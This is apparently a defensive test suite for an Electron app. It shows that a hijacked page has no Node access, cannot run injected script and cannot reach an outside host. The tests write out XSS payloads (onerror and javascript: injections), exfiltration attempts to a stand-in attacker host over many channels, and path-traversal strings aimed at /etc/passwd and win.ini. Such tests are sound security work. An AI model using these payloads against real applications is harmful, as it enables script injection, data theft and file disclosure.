/** What a page in somebody else's hands can reach: nothing of Node, of this computer or of any network. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { listenElsewhere, startVictim } from './testing/attacker.ts';
import type { Elsewhere, Victim } from './testing/attacker.ts';
import { inMain } from './testing/main-process.ts';

let victim: Victim;
let elsewhere: Elsewhere;

beforeAll(async () => {
  [victim, elsewhere] = await Promise.all([startVictim(), listenElsewhere()]);
});
afterAll(async () => {
  await victim.stop();
  await elsewhere.stop();
});

/** Runs an expression as the page's own script would: outside the DevTools call, which may use `eval`. */
async function attack(expression: string): Promise<unknown> {
  const page = await victim.console();
  return page.evaluate(`new Promise((done) => setTimeout(async () => {
    const AT = ${JSON.stringify(elsewhere.at)};
    const loads = (element, where) => new Promise((resolve) => {
      element.onload = () => resolve('loaded');
      element.onerror = () => resolve('refused');
      document[where ?? 'body'].append(element);
      setTimeout(() => resolve('nothing'), 500);
    });
    const make = (tag, fields) => Object.assign(document.createElement(tag), fields);
    try { done(await (${expression})); } catch (cause) { done(cause.name); }
  }))`);
}

describe('the globals of the page', () => {
  it.each(['require', 'process', 'module', 'Buffer', 'global', 'electron', 'ipcRenderer'])(
    'have no %s',
    async (name) => {
      expect(await attack(`typeof globalThis[${JSON.stringify(name)}]`)).toBe('undefined');
    },
  );

  it('have the two functions of the bridge, which nobody can replace', async () => {
    expect(await attack('Object.keys(printraft).sort()')).toEqual(['listen', 'send']);
    expect(await attack('Object.isFrozen(printraft)')).toBe(true);
    expect(
      await attack(`(() => {
        try { printraft.send = () => 1; } catch {}
        try { globalThis.printraft = { send: 1 }; } catch {}
        return [typeof printraft.send, typeof printraft.listen];
      })()`),
    ).toEqual(['function', 'function']);
  });

  it('lie in a world of their own, in a process that has no Node', async () => {
    const preferences = await inMain(
      victim.app,
      `require('electron').BrowserWindow.getAllWindows()[0].webContents.getLastWebPreferences()`,
    );
    expect(preferences).toMatchObject({
      sandbox: true,
      contextIsolation: true,
      nodeIntegration: false,
      webSecurity: true,
      webviewTag: false,
    });
    expect(await attack(`printraft.send.constructor('return typeof process')()`)).toBe('EvalError');
  });
});

describe('script that is not the app’s own', () => {
  it.each([
    ['eval', `eval('1')`],
    ['a function of text', `new Function('return 1')()`],
  ])('does not run by %s', async (_what, expression) => {
    expect(await attack(expression)).toBe('EvalError');
  });

  it.each([
    ['inline', `make('script', { text: 'globalThis.ran = true' })`],
    ['from a data address', `make('script', { src: 'data:text/javascript,globalThis.ran=true' })`],
    ['from a blob', `make('script', { src: URL.createObjectURL(new Blob(['globalThis.ran=true'])) })`],
    ['from elsewhere', `make('script', { src: 'http://' + AT + '/x.js' })`],
    ['in an event', `make('div', { innerHTML: '<img src=x onerror="globalThis.ran=true">' })`],
    ['as an address', `make('div', { innerHTML: '<a href="javascript:globalThis.ran=true">x</a>' })`],
  ])('does not run %s', async (_what, element) => {
    const ran = await attack(`(async () => {
      const element = ${element};
      const loading = loads(element);
      element.querySelector('a')?.click();
      await loading;
      return globalThis.ran ?? false;
    })()`);
    expect(ran).toBe(false);
  });
});

describe('somebody elsewhere', () => {
  it.each([
    ['fetch', `fetch('http://' + AT)`, 'TypeError'],
    ['an XMLHttpRequest', `new Promise((r) => { const x = new XMLHttpRequest(); x.onerror = () => r('refused'); x.onload = () => r('loaded'); x.open('GET', 'http://' + AT); x.send(); })`, 'refused'], // prettier-ignore
    ['a WebSocket', `new Promise((r) => { const s = new WebSocket('ws://' + AT); s.onerror = () => r('refused'); s.onopen = () => r('open'); })`, 'refused'], // prettier-ignore
    ['an event stream', `new Promise((r) => { const s = new EventSource('http://' + AT); s.onerror = () => r('refused'); s.onopen = () => r('open'); })`, 'refused'], // prettier-ignore
    ['a picture', `loads(make('img', { src: 'http://' + AT }))`, 'refused'],
    ['a style sheet', `loads(make('link', { rel: 'stylesheet', href: 'http://' + AT }))`, 'refused'],
  ])('is not told by %s', async (_what, expression, outcome) => {
    expect(await attack(expression)).toBe(outcome);
    expect(elsewhere.heard()).toBe(0);
  });

  it.each([
    ['a beacon', `navigator.sendBeacon('http://' + AT, 'x')`],
    ['a preconnection', `loads(make('link', { rel: 'preconnect', href: 'http://' + AT }), 'head')`],
    ['a prefetch', `loads(make('link', { rel: 'prefetch', href: 'http://' + AT }), 'head')`],
    ['a ping', `(() => { const a = make('a', { href: '#x', ping: 'http://' + AT }); document.body.append(a); a.click(); })()`], // prettier-ignore
    ['a font', `new FontFace('x', 'url(http://' + AT + ')').load()`],
    ['a frame', `loads(make('iframe', { src: 'http://' + AT }))`],
    ['an object', `loads(make('object', { data: 'http://' + AT }))`],
    ['WebTransport', `new WebTransport('https://' + AT).ready`],
    ['WebRTC by STUN', ice(`'stun:' + AT`)],
    ['WebRTC by TURN over UDP', ice(`'turn:' + AT + '?transport=udp'`)],
    ['WebRTC by TURN over TCP', ice(`'turn:' + AT + '?transport=tcp'`)],
  ])('is not told by %s', async (_what, expression) => {
    await attack(`Promise.race([${expression}, new Promise((r) => setTimeout(r, 800))])`);
    expect(elsewhere.heard()).toBe(0);
  });

  it('is not told past the content policy either: the session cancels, and the log says so', async () => {
    const page = await victim.console();
    const devTools = await page.context().newCDPSession(page);
    await devTools.send('Page.setBypassCSP', { enabled: true });
    await page.reload();
    expect(await attack(`fetch('http://' + AT, { mode: 'no-cors' })`)).toBe('TypeError');
    await victim.tells(`asked for http://${elsewhere.at}`);
    expect(await attack(`loads(make('img', { src: 'file:///etc/hostname' }))`)).toBe('refused');
    expect(elsewhere.heard()).toBe(0);
    await devTools.send('Page.setBypassCSP', { enabled: false });
    await page.reload();
  });
});

/** Looks for candidates of a connection through a server, which is how a page would speak to that. */
function ice(urls: string): string {
  const server = `{ urls: ${urls}, username: 'x', credential: 'x' }`;
  return `(async () => {
    const peer = new RTCPeerConnection({ iceServers: [${server}] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((r) => { peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && r(); });
    peer.close();
  })()`;
}

describe('the app’s own addresses', () => {
  it.each([
    '/../../../etc/passwd',
    '/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
    '/..%2f..%2f..%2fetc%2fpasswd',
    '/assets/%2e%2e/%2e%2e/package.json',
    '//etc/passwd',
    '/C:/Windows/win.ini',
    '/__proto__',
    '/nothing-there.js',
  ])('have nothing at %s', async (path) => {
    expect(await netFetch(`app://printraft${path}`)).toEqual([404, '']);
  });

  it.each(['app://elsewhere/index.html', 'app://printraft.evil/index.html'])(
    'are of two hosts only, not %s',
    async (url) => {
      expect(await netFetch(url)).toEqual([404, '']);
    },
  );

  it.each(['POST', 'PUT', 'DELETE', 'HEAD'])('take no %s', async (method) => {
    expect(await netFetch('app://printraft/index.html', method)).toEqual([405, '']);
  });
});

/** Asks as the page's requests do, without the content policy in the way. */
const netFetch = (url: string, method = 'GET') =>
  inMain(
    victim.app,
    `require('electron').session.defaultSession.fetch(${JSON.stringify(url)}, { method: '${method}' })
      .then(async (answer) => [answer.status, await answer.text()])`,
  );
